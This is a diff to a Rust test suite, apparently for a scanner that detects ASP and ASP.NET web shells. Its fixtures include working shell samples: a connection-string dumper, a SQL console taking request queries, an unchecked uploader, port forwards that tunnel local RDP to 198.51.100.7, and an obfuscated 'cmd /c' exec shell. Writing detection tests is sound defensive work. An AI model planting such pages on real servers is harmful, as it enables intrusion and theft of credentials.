@@ -424,6 +424,11 @@ fn cases() -> Vec<Case> {
             "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[System.Runtime.InteropServices.DllImport(\"user32\")] static extern int MessageBeep(uint t);\nvoid Page_Load(object s, EventArgs e) { var t = new System.Threading.Thread(Work); t.Start(); }\n</script>\n",
         ),
         case(
+            "EXRAY_Connection_Strings_Dump",
+            "<%@ Page Language=\"VB\" %>\n<table>\n<%\nDim css = ConfigurationManager.ConnectionStrings\nFor i As Integer = 0 To css.Count - 1\n Response.Write(\"<tr><td>\" & css.Item(i).Name & \"</td><td>\")\n Response.Write(css.Item(i).ConnectionString)\n Response.Write(\"</td></tr>\")\nNext\n%>\n</table>\n",
+            "<%@ Page Language=\"C#\" %>\n<%\nforeach (ConnectionStringSettings c in ConfigurationManager.ConnectionStrings) {\n using (var conn = new SqlConnection(c.ConnectionString)) { conn.Open(); Response.Write(c.Name + \": reachable<br>\"); }\n}\n%>\n",
+        ),
+        case(
             "EXRAY_Page_Port_Forward",
             "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Net.Sockets\" %>\n<script runat=\"server\">\nSocket l, r; byte[] a = new byte[2048], b = new byte[2048];\nvoid Page_Load(object s, EventArgs e) {\n r = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n l = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n r.Connect(\"198.51.100.7\", 600); l.Connect(\"127.0.0.1\", 3389);\n r.BeginReceive(a, 0, a.Length, SocketFlags.None, FromRemote, null);\n l.BeginReceive(b, 0, b.Length, SocketFlags.None, FromLocal, null);\n}\nvoid FromRemote(IAsyncResult ar) { int n = r.EndReceive(ar); l.BeginSend(a, 0, n, SocketFlags.None, null, null); }\nvoid FromLocal(IAsyncResult ar) { int n = l.EndReceive(ar); r.BeginSend(b, 0, n, SocketFlags.None, null, null); }\n</script>\n",
             "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Check(object s, EventArgs e) {\n foreach (var host in new[] { \"smtp.corp.example\", \"db.corp.example\" }) {\n  using (var c = new System.Net.Sockets.TcpClient()) { c.Connect(host, 25); var st = c.GetStream(); st.Write(hello, 0, hello.Length); int n = st.Read(buf, 0, buf.Length); lbl.Text += host + \": \" + n; }\n }\n}\n</script>\n",
@@ -616,6 +621,49 @@ fn cases() -> Vec<Case> {
     ]
 }
 
+/// The exemptions for applications' pages keep the shells of the same shape.
+#[test]
+fn application_exemptions_keep_shells() {
+    let expect = |page: &str, rule: &str| {
+        assert!(
+            hits(page).contains(rule),
+            "{rule}: {:?}\n{page}",
+            hits(page)
+        );
+    };
+    // a console on a connection string of any length that ends with the caller's server
+    expect(
+        "<%\nSet conn = Server.CreateObject(\"ADODB.Connection\")\nconn.Open \"Provider=SQLOLEDB.1;Persist Security Info=False;Password=\" & Request(\"p\") & \";User ID=sa;Initial Catalog=master;Data Source=\" & Request(\"h\")\nSet rs = conn.Execute(Request(\"q\"))\n%>\n",
+        "EXRAY_SQL_Console_Request",
+    );
+    // a SELECT spliced with request data opens no connection
+    let select = "<%\nSet rs = Server.CreateObject(\"ADODB.Recordset\")\nrs.Open \"SELECT * FROM servers WHERE server='\" & Request(\"s\")\nSet r2 = conn.Execute(Request(\"sp\") & \"_report\")\n%>\n";
+    assert!(
+        !hits(select).contains("EXRAY_SQL_Console_Request"),
+        "{:?}",
+        hits(select)
+    );
+    // a console planted on the application's own connection
+    expect(
+        "<% Set c = Server.CreateObject(\"ADODB.Connection\"): c.Open Application(\"cs\"): Set r = c.Execute(Request(\"q\"))\nDo Until r.EOF: Response.Write r(0) & \"<br>\": r.MoveNext: Loop %>\n",
+        "EXRAY_SQL_Query_From_Request",
+    );
+    // a one-line uploader in a page whose markup holds a URL before the MapPath
+    expect(
+        "<%@ Page Language=\"C#\" %><html xmlns=\"http://www.w3.org/1999/xhtml\"><% if (Request.Files.Count > 0) { var f = Request.Files[0]; f.SaveAs(Server.MapPath(\"~/\") + f.FileName); } %></html>\n",
+        "EXRAY_Upload_Unchecked_Name",
+    );
+    // a port forward that pumps in a thread of its own, and one that copies stream to stream
+    expect(
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var r = new System.Net.Sockets.TcpClient(\"198.51.100.7\", 600);\n var l = new System.Net.Sockets.TcpClient(\"127.0.0.1\", 3389);\n new System.Threading.Thread(() => { while (true) { int n = r.Client.Receive(a); l.Client.Send(a, n, 0); } }).Start();\n while (true) { int n = l.Client.Receive(b); r.Client.Send(b, n, 0); }\n}\n</script>\n",
+        "EXRAY_Page_Port_Forward",
+    );
+    expect(
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var r = new System.Net.Sockets.TcpClient(); r.Connect(\"198.51.100.7\", 600);\n var l = new System.Net.Sockets.TcpClient(); l.Connect(\"127.0.0.1\", 3389);\n var x = r.GetStream().CopyToAsync(l.GetStream());\n l.GetStream().CopyTo(r.GetStream());\n}\n</script>\n",
+        "EXRAY_Page_Port_Forward",
+    );
+}
+
 /// A page saved as UTF-16 is read as the text it holds: every rule and data-flow check applies
 /// to it as to the same page in UTF-8, with or without a byte-order mark, in either byte order.
 #[test]
@@ -646,6 +694,45 @@ fn utf16_pages_are_read_as_text() {
             assert_eq!(ids, plain, "UTF-16 without a mark or big-endian: {shell}");
         }
     }
+    // a match found in the text points at the code units of the file it came from
+    let page = "<%\nSet o = Server.CreateObject(\"WScript.Shell\")\nResponse.Write o.Exec(\"cmd /c \" & Request(\"c\")).StdOut.ReadAll\n%>\n";
+    let bytes: Vec<u8> = [0xFF, 0xFE]
+        .into_iter()
+        .chain(page.encode_utf16().flat_map(u16::to_le_bytes))
+        .collect();
+    let mut s = rules().scanner();
+    let found = s.scan("x", &bytes).unwrap();
+    let mut checked = 0;
+    for m in found.iter().flat_map(|h| &h.matches) {
+        if !m
+            .identifier
+            .as_deref()
+            .is_some_and(|i| i.ends_with("(UTF-16 read as text)"))
+            || m.excerpt.contains('\\')
+        {
+            continue;
+        }
+        let span = &bytes[m.offset as usize..(m.offset + m.length) as usize];
+        let units: Vec<u16> = span
+            .chunks_exact(2)
+            .map(|c| u16::from_le_bytes([c[0], c[1]]))
+            .collect();
+        assert_eq!(span.len() % 2, 0, "{m:?}");
+        assert_eq!(String::from_utf16(&units).unwrap(), m.excerpt, "{m:?}");
+        checked += 1;
+    }
+    assert!(checked > 0, "no match of the UTF-16 view: {found:?}");
+    // an ASCII shell behind a stray UTF-16 mark is still read as the ASCII it is, split names
+    // joined
+    let stray = b"\xff\xfe<%\nSet o = Server.CreateObject(\"WScr\"&\"ipt.Shell\")\nResponse.Write o.Exec(\"cmd /c \" & Request(\"c\")).StdOut.ReadAll\n%>\n";
+    let mut s = rules().scanner();
+    let ids: BTreeSet<String> = s
+        .scan("x", stray)
+        .unwrap()
+        .into_iter()
+        .map(|h| h.meta.id)
+        .collect();
+    assert!(ids.contains("EXRAY_ASP_WScript_Shell_Exec"), "{ids:?}");
     // an application's login page saved as UTF-16: it runs its own parameterised query
     let login = "UTF16:<%\nIf Request.ServerVariables(\"REQUEST_METHOD\") = \"POST\" Then\n username = Trim(Request.Form(\"username\"))\n Set cmd = Server.CreateObject(\"ADODB.Command\")\n cmd.CommandText = \"SELECT id FROM users WHERE name = ?\"\n cmd.Parameters.Append cmd.CreateParameter(\"n\", 200, 1, 50, username)\n Set loginRS = cmd.Execute()\nEnd If\n%>\n<html><body><form method=\"post\"><input name=\"username\"></form></body></html>\n";
     assert!(hits(login).is_empty(), "{:?}", hits(login));
@@ -855,6 +942,13 @@ fn obfuscated_one_liner_variants() {
     // A relay whose target comes from oddly named form fields and whose body is the caller's.
     let relay = "<%@ Page Language=\"C#\" %>\n<%\nstring u = Request.Form[\"Remoteserver\"] + Request.Form[\"Endpoint\"];\nbyte[] b = new byte[Request.ContentLength];\nRequest.InputStream.Read(b, 0, b.Length);\nvar r = (HttpWebRequest)WebRequest.Create(u);\nr.Method = \"POST\";\nr.GetRequestStream().Write(b, 0, b.Length);\nResponse.Write(new StreamReader(r.GetResponse().GetResponseStream()).ReadToEnd());\n%>";
     assert!(hits(relay).contains("EXRAY_HTTP_Proxy_Request_Url"));
+    // An application that builds its links from the Host header and fetches a fixed feed.
+    let links = "<%@ Page Language=\"C#\" %>\n<%\nstring host = Request.Headers[\"Host\"];\nusing (var wc = new WebClient()) {\n string feed = wc.DownloadString(\"https://news.example/feed.xml\");\n Response.Write(Server.HtmlEncode(host + \": \" + feed.Length));\n}\n%>";
+    assert!(
+        !hits(links).contains("EXRAY_HTTP_Proxy_Request_Url"),
+        "{:?}",
+        hits(links)
+    );
     // An operator's relay panel that keeps the target in a cookie, base64 encoded, and posts
     // its form there.
     let panel = "<%@ Page Language=\"C#\" %>\n<%\nstring url = FromBase64(HttpContext.Current.Request.Cookies[\"url\"].Value);\nusing (WebClient wc = new WebClient()) {\n string r = wc.UploadString(url, Request.Form.ToString());\n Response.Write(FromBase64(r));\n}\n%>";
@@ -1060,6 +1154,8 @@ fn application_kinds_trip_nothing() {
         // a generated CRUD page that carries its query in a hidden field, on the application's
         // connection from global.asa
         "<%\nSet objCon = Server.CreateObject(\"ADODB.Connection\")\nobjCon.Open Application(\"SOS_conexao\")\nSet objRS = Server.CreateObject(\"ADODB.Recordset\")\nstrQ = Request.Form(\"strQ\")\nobjRS.Open strQ, objCon, , , &H0001\nobjRS(\"tipo\") = Trim(Request.Form(\"tipo\"))\nobjRS.UpdateBatch\n%>\n<INPUT type=hidden name=strQ value=\"<%=Request.Form(\"strQ\")%>\">\n",
+        // a health page that talks to two mail services in turn
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var a = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);\n a.Connect(\"smtp.corp.example\", 25); a.Receive(buf); a.Send(quit); a.Receive(buf);\n var b = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);\n b.Connect(\"pop.corp.example\", 110); b.Receive(buf); b.Send(quit);\n lbl.Text = \"ok\";\n}\n</script>\n",
         // an upload handler that saves under the configured folder (its MapPath commented out)
         "<%@ WebHandler Language=\"C#\" Class=\"Up\" %>\nusing System.Web;\npublic class Up : IHttpHandler {\n public void ProcessRequest(HttpContext context) {\n  string path = System.Configuration.ConfigurationManager.AppSettings[\"UploadPath\"];\n  HttpPostedFile file = context.Request.Files[\"Filedata\"];\n  string dir = path + \"\\\\\" + context.Request.QueryString[\"MainID\"];//HttpContext.Current.Server.MapPath(@path);\n  file.SaveAs(dir + \"\\\\\" + file.FileName);\n }\n public bool IsReusable { get { return false; } }\n}\n",
         // ASP.NET data binding of a field the query names, and a C# page's TemplateControl.Eval
